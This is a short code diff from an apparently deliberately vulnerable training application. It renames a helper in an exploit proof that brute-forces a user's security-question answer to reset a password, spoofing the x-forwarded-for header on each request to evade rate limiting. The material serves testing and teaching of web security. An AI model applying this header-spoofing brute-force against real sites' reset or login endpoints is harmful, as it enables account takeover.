@@ -24,7 +24,7 @@ const mailOf = ({ domain }: Attacker) => `morty@${domain}`
 const addressNumber = (index: number) => `10.${index >> 16}.${(index >> 8) & 255}.${index & 255}`
 
 type Disguise = (index: number) => Readonly<Record<string, string>>
-const asSomebodyElse: Disguise = (index) => ({ 'x-forwarded-for': addressNumber(index) })
+const fromOtherAddress: Disguise = (index) => ({ 'x-forwarded-for': addressNumber(index) })
 
 /** Tries answers, each request with other headers, until one is right or the limit refuses it. */
 async function tryAll(attacker: Attacker, answers: readonly string[], disguise: Disguise): Promise<void> {
@@ -55,7 +55,7 @@ const reset = (attacker: Attacker, answer: string, more?: object) =>
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.get(`/rest/user/security-question?email=${mailOf(attacker)}`)
-    await guess(asSomebodyElse)(attacker)
+    await guess(fromOtherAddress)(attacker)
   },
   spellings: {
     ...spellingsOfReset('morty', ANSWER),
